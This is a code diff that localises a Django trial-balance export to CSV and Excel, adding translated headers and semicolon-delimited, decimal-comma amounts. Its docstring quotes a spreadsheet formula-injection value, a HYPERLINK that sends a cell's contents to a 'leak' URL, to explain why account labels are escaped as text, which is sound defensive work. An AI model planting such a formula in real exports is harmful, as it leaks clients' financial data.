@@ -1,8 +1,9 @@
 """The trial balance as a download: CSV with exact amounts, and an Excel workbook.
 
 The CSV carries every amount exactly as the ledger holds it (Decimal to text, never through a float):
-two decimals, or up to four when the package sent sub-cent amounts. It starts with a UTF-8 byte order
-mark so Excel opens accented account names right.
+two decimals, or up to four when the package sent sub-cent amounts, in the reader's locale (``;`` between
+columns and a decimal comma in Dutch and French, as Excel set to a Belgian locale expects). It starts with a
+UTF-8 byte order mark so Excel opens accented account names right. The workbook keeps real numbers.
 
 Account numbers and names come from the client's own WoW company, so they are hostile input: a label
 ``=HYPERLINK("https://…/leak?"&A3,"Omzet")`` must reach the accountant as text, never as a formula. CSV text
@@ -18,6 +19,8 @@ import io
 import re
 from decimal import Decimal
 
+from django.utils.formats import get_format
+from django.utils.translation import gettext, pgettext_lazy
 from openpyxl import Workbook
 from openpyxl.styles import Alignment, Font
 from openpyxl.utils import get_column_letter
@@ -25,7 +28,15 @@ from openpyxl.utils import get_column_letter
 from clients.ledger_selectors import TrialBalance
 from clients.models import ClientFile
 
-HEADER = ["Account", "Name", "Opening", "Debit", "Credit", "Closing"]
+# The columns, in the reader's language (lazy: worded when a download is made).
+HEADER = [
+    pgettext_lazy("trial balance column", "Account"),
+    pgettext_lazy("trial balance column", "Name"),
+    pgettext_lazy("trial balance column", "Opening"),
+    pgettext_lazy("trial balance column", "Debit"),
+    pgettext_lazy("trial balance column", "Credit"),
+    pgettext_lazy("trial balance column", "Closing"),
+]
 CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
 XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 XLSX_AMOUNT_FORMAT = "#,##0.00;-#,##0.00"
@@ -58,7 +69,7 @@ def _rows(trial_balance: TrialBalance) -> list[list[str | Decimal]]:
     ]
     rows.append(
         [
-            "Total",
+            gettext("Total"),
             "",
             trial_balance.opening,
             trial_balance.debit,
@@ -70,11 +81,20 @@ def _rows(trial_balance: TrialBalance) -> list[list[str | Decimal]]:
 
 
 def trial_balance_csv(trial_balance: TrialBalance) -> bytes:
+    """In the reader's locale, as Excel set to it opens a CSV: with a decimal comma (Dutch and French as in
+    Belgium) the columns are separated by ``;``, else by ``,``; amounts exact, without thousands
+    separators."""
+    decimal = str(get_format("DECIMAL_SEPARATOR"))
     buffer = io.StringIO()
-    writer = csv.writer(buffer, lineterminator="\r\n")
-    writer.writerow(HEADER)
+    writer = csv.writer(buffer, delimiter=";" if decimal == "," else ",", lineterminator="\r\n")
+    writer.writerow([str(title) for title in HEADER])
     for row in _rows(trial_balance):
-        writer.writerow([exact_amount(cell) if isinstance(cell, Decimal) else csv_text(cell) for cell in row])
+        writer.writerow(
+            [
+                exact_amount(cell).replace(".", decimal) if isinstance(cell, Decimal) else csv_text(cell)
+                for cell in row
+            ]
+        )
     return buffer.getvalue().encode("utf-8-sig")
 
 
@@ -83,12 +103,19 @@ def trial_balance_xlsx(trial_balance: TrialBalance, *, client_file: ClientFile) 
     workbook = Workbook()
     sheet = workbook.active
     assert sheet is not None
-    sheet.title = "Trial balance"
+    sheet.title = gettext("Trial balance")[:31]
     sheet.append(
-        [f"{client_file.name} ({client_file.file_code}): trial balance, {trial_balance.scope.label}"]
+        [
+            gettext("%(client)s (%(file_code)s): trial balance, %(scope)s")
+            % {
+                "client": client_file.name,
+                "file_code": client_file.file_code,
+                "scope": trial_balance.scope.label,
+            }
+        ]
     )
     sheet["A1"].font = Font(bold=True)
-    sheet.append(HEADER)
+    sheet.append([str(title) for title in HEADER])
     header_row = sheet.max_row
     for cell in sheet[header_row]:
         cell.font = Font(bold=True)
